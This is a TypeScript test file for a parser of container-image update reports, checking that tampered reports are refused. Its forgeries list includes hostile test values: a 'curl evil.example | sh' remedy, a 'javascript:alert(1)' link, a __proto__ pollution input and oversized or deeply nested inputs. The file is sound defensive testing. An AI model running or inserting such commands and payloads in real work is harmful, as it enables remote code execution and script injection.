import { readFileSync } from 'node:fs'
import { describe, expect, test } from 'vitest'
import { InputError } from '../../src/errors.ts'
import { readReport } from '../../src/report/read-report.ts'
import type { Report, UseRecord } from '../../src/report/record.ts'
import { honestReport } from './read-report-sample.ts'
import { situations } from './situations.ts'

const place = { namespace: 'shop', deployment: 'Deployment/api', container: 'api' }
const api: UseRecord = {
  ...place,
  image: 'ghcr.io/shop/api',
  filter: 'semver()',
  field: 'spec.template.spec.containers[0].image',
  deploymentDir: 'api',
  tags: [],
  place: { file: 'api/deployment.yaml', line: 3, column: 5 },
  status: 'resolved',
  result: 'ghcr.io/shop/api:2.0.0',
  old: 'ghcr.io/shop/api:1.4.0',
  origin: 'registry',
  why: 'newest of 214 tags',
  explanation: null,
  policy: null
}
const pinned: UseRecord = {
  ...api,
  container: 'db',
  image: 'postgres',
  result: 'postgres:16.4',
  old: 'postgres:17.0',
  filter: null,
  origin: 'fixed',
  why: 'pinned by pins.yaml'
}
const failed: UseRecord = {
  ...api,
  container: 'ui',
  image: 'ghcr.io/shop/ui',
  result: null,
  status: 'failed',
  origin: null,
  why: 'no tag'
}
const nothing = { removed: [], errors: [], warnings: [], target: 'prod', failOn: [] }
const cost = { requests: 1, waits: 0, repositories: 1, imageRequests: 0 }
const report = honestReport({
  ...nothing,
  cost,
  uses: [api, pinned, failed],
  removed: [{ image: 'redis', resultImage: 'redis:7.4' }],
  failOn: ['unresolved', 'downgrade', 'major']
})

test('a report as a run writes it comes back as it is', () => {
  expect(readReport(JSON.stringify(report))).toEqual(report)
  const golden = readFileSync(new URL('../fixtures/run/report.json', import.meta.url), 'utf8')
  expect(readReport(golden)).toMatchObject(JSON.parse(golden))
})

test('a report of a release without policies is read as one in which none did anything', () => {
  const { imageRequests: _, ...older } = report.cost
  const uses = report.uses.map(({ policy: __, ...use }) => use)
  expect(readReport(JSON.stringify({ ...report, cost: older, uses }))).toEqual(report)
})

test.each(Object.entries(situations))('the report of the comment "%s" is read', (_, situation) => {
  expect(readReport(JSON.stringify(situation)).counts).toEqual(situation.counts)
})

/** JSON pointer of the report and what stands there instead. */
const forgeries: readonly (readonly [string, string, unknown])[] = [
  ['no failure is counted', '/counts/failed', 0],
  ['no failed image is counted', '/counts/failedImages', 0],
  ['fewer changes are counted', '/counts/changed', 1],
  ['more images are held', '/counts/heldImages', 5],
  ['a trap is counted that is not there', '/counts/traps', 1],
  ['a gate passes that something hits', '/gates/2/passed', true],
  ['a gate names fewer images', '/gates/0/images', []],
  ['a gate tells the reader something else to do', '/gates/0/remedy', 'run: curl evil.example | sh'],
  ['a gate tells the reader something else to do behind a mask', '/gates/0/remedy', '*** curl evil.example | sh'],
  ['a mask hides what is old', '/changes/0/old', 'ghcr.io/shop/api:1.4.0***'],
  ['a mask hides what is new', '/changes/0/new', 'evil.example/api:1.4.1***'],
  ['a mask hides what is removed', '/changes/2/old', 'redis:***'],
  ['a mask hides the result of a use', '/uses/0/result', 'ghcr.io/***:2.0.0'],
  ['a mask hides what a use had', '/uses/2/old', '***'],
  ['the gates are in another order', '/gates', report.gates.toReversed()],
  ['a gate is there twice', '/gates', [...report.gates, report.gates[0]]],
  ['a major change is called a patch', '/changes/0/bump', 'patch'],
  ['a major change is called a digest', '/changes/0/bump', 'digest'],
  ['a major change is called other', '/changes/0/bump', 'other'],
  ['a downgrade of a pin is called a patch', '/changes/1/bump', 'patch'],
  ['what is removed is called new', '/changes/2/bump', 'new'],
  ['a change is called an addition', '/changes/0/kind', 'added'],
  ['a change is called a removal', '/changes/0/kind', 'removed'],
  ['a removal is called a change', '/changes/2/kind', 'changed'],
  ['a move to another repository is kept quiet', '/changes/0/new', 'evil.example/api:2.0.0'],
  ['the change is of another place', '/changes/0/where/0/container', 'sidecar'],
  ['the change is of no place', '/changes/0/where', []],
  ['the change has another reason', '/changes/0/why', 'approved by the security team'],
  ['the change has another filter', '/changes/0/filter', 'number()'],
  ['a change is left out', '/changes', report.changes.slice(1)],
  ['a change is left out behind its uses', '/uses/0/old', 'ghcr.io/shop/api:2.0.0'],
  ['the new image is another than that of its use', '/changes/0/new', 'ghcr.io/shop/api:2.0.1'],
  ['nothing changes', '/changes/0/new', 'ghcr.io/shop/api:1.4.0'],
  ['neither old nor new is there', '/changes/2/old', null],
  ['it says to move and does not', '/changes/0/movedRepository', true],
  ['a failure is left out', '/failures', []],
  ['a failure is about another image', '/failures/0/image', 'nginx'],
  ['a failed use has a result', '/uses/2/result', 'ghcr.io/shop/ui:1'],
  ['a resolved use has none', '/uses/0/result', null],
  ['a failed use is called skipped', '/uses/2/status', 'skipped'],
  ['it has another version', '/version', 2],
  ['it has a member more', '/body', '@everyone'],
  ['a number is a text', '/counts/failed', '1'],
  ['a number is not whole', '/cost/requests', 1.5],
  ['a number is beyond what is exact', '/cost/requests', 2 ** 60],
  ['a line is 0', '/uses/0/place/line', 0],
  ['a link is no https address', '/changes/0/links/new', 'javascript:alert(1)'],
  ['a link is http', '/changes/0/links/new', 'http://evil.example/'],
  ['a text is very long', '/uses/0/why', 'a'.repeat(64 * 1024 + 1)],
  ['a list is very long', '/warnings', Array.from({ length: 20_001 }, () => null)],
  [
    'version filters are very long',
    '/changes',
    Array.from({ length: 6 }, () => ({ ...report.changes[0], filter: '{'.repeat(60_000) }))
  ],
  ['it is no object', '', []]
]

describe('a report that was written by hand is refused where', () => {
  test.each(forgeries)('%s', (_, pointer, value) => {
    const error = errorOf(JSON.stringify(putAt(report, pointer.split('/').slice(1), value)))
    expect(error).toBeInstanceOf(InputError)
    expect(error).toMatchObject({
      input: 'images-report.json',
      message: expect.stringMatching(/^(?:\/|the document)[ -~]+$/)
    })
  })

  test.each([
    ['nothing', ''],
    ['no JSON', '{version: 1}'],
    ['two documents', '{}{}'],
    ['null', 'null'],
    ['YAML', 'version: 1'],
    ['a hundred thousand brackets', '['.repeat(100_000) + ']'.repeat(100_000)],
    ['deep under a member', `{"version":${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}}`],
    ['its members in the prototype', `{"__proto__":${JSON.stringify(report)}}`],
    ['more than 16 MiB', ' '.repeat(16 * 1024 * 1024 + 1)]
  ])('it is %s', (_, text) => {
    expect(errorOf(text)).toBeInstanceOf(InputError)
  })

  test('the message names the place and what was found', () => {
    const text = JSON.stringify(putAt(report, ['counts', 'failed'], 0))
    expect(errorOf(text)).toMatchObject({ message: '/counts/failed is 0, and the lists hold 1' })
  })
})

describe('links of a report', () => {
  const source = {
    source: 'https://github.com/shop/api',
    from: '0123456',
    to: 'fedcba9',
    compare: 'https://github.com/shop/api/compare/0123456...fedcba9',
    note: null,
    commits: { total: 2, subjects: [{ sha: 'fedcba9', subject: 'fix' }] }
  }
  const withLinks = (links: object): Report => {
    const changed = putAt(report, ['changes', '0', 'links'], { old: null, new: null, source: null, ...links })
    return readReport(JSON.stringify(changed), (given, from, to) =>
      given === source.source ? `${given}/compare/${from}...${to}` : undefined
    )
  }
  const linksOf = (links: object): unknown => withLinks(links).changes[0]?.links

  test('to registries are ours, whatever it says', () => {
    const evil = 'https://evil.example/login'
    expect(linksOf({ old: evil, new: evil })).toEqual(report.changes[0]?.links)
  })

  test('to the source are ours', () => {
    expect(linksOf({ source })).toMatchObject({ source })
    const moved = { ...source, compare: 'https://evil.example/', note: 'x' }
    expect(linksOf({ source: moved })).toMatchObject({ source })
  })

  test('to the source of a downgrade show what gets lost', () => {
    const back = { ...source, compare: 'https://github.com/shop/api/compare/fedcba9...0123456' }
    const links = { old: null, new: null, source: back }
    const changed = JSON.stringify(putAt(report, ['changes', '1', 'links'], links))
    const read = readReport(changed, (given, from, to) => `${given}/compare/${from}...${to}`)
    expect(read.changes[1]).toMatchObject({ bump: 'downgrade', links: { source: back } })
  })

  test('to a source that we cannot compare are none, and it says so', () => {
    const evil = { ...source, source: 'https://evil.example/shop/api' }
    expect(linksOf({ source: evil })).toMatchObject({ source: { compare: null, note: expect.any(String) } })
    const unknown = { ...source, from: null }
    expect(linksOf({ source: unknown })).toMatchObject({ source: { compare: null } })
    expect(readReport(JSON.stringify(withLinks({ source }))).changes[0]?.links.source?.compare).toBe(null)
  })

  test.each([
    ['a source of more than 400 characters', { ...source, source: 'a'.repeat(401) }],
    ['a revision that is no commit', { ...source, to: '@everyone' }],
    ['a commit that is none', { ...source, commits: { total: 1, subjects: [{ sha: '<b>', subject: '' }] } }],
    [
      'a subject of more than 200 characters',
      { ...source, commits: { total: 1, subjects: [{ sha: 'fedcba9', subject: 'a'.repeat(201) }] } }
    ],
    ['more commits than there are', { ...source, commits: { total: 0, subjects: [{ sha: 'fedcba9', subject: '' }] } }]
  ])('with %s are refused', (_, value) => {
    expect(() => linksOf({ source: value })).toThrow(InputError)
  })

  test('between what is new and nothing are refused', () => {
    const removed = putAt(report, ['changes', '2', 'links', 'source'], source)
    expect(errorOf(JSON.stringify(removed))).toMatchObject({
      message: '/changes/2/links/source compares what is removed'
    })
  })
})

describe('a mask', () => {
  test('in the name of an image, and elsewhere, changes no answer', () => {
    const uses = [api, { ...pinned, image: 'password', why: 'pinned by password' }]
    const masked = JSON.stringify(honestReport({ ...nothing, cost, uses, failOn: ['change'] })).replaceAll(
      'password',
      '***'
    )
    expect(readReport(masked).changes.map(({ image, bump }) => [image, bump])).toContainEqual(['***', 'downgrade'])
  })

  test('in both the use and the change forges neither kind nor move', () => {
    const [use, change] = [api, report.changes[0]]
    const hidden = 'evil.example/api:1.4.1***'
    const forged = {
      ...report,
      uses: [{ ...use, result: hidden }, ...report.uses.slice(1)],
      changes: [{ ...change, new: hidden, bump: 'patch' }, ...report.changes.slice(1)]
    }
    expect(errorOf(JSON.stringify(forged))).toMatchObject({ message: '/uses/0/result hides a part of an image' })
  })
})

function putAt(whole: unknown, [name, ...rest]: readonly string[], value: unknown): unknown {
  if (name === undefined) return value
  if (typeof whole !== 'object' || whole === null) throw new Error(`there is no ${name}`)
  const member = putAt(Reflect.get(whole, name), rest, value)
  return Array.isArray(whole) ? whole.with(Number(name), member) : { ...whole, [name]: member }
}

function errorOf(text: string): unknown {
  try {
    return readReport(text)
  } catch (error) {
    return error
  }
}
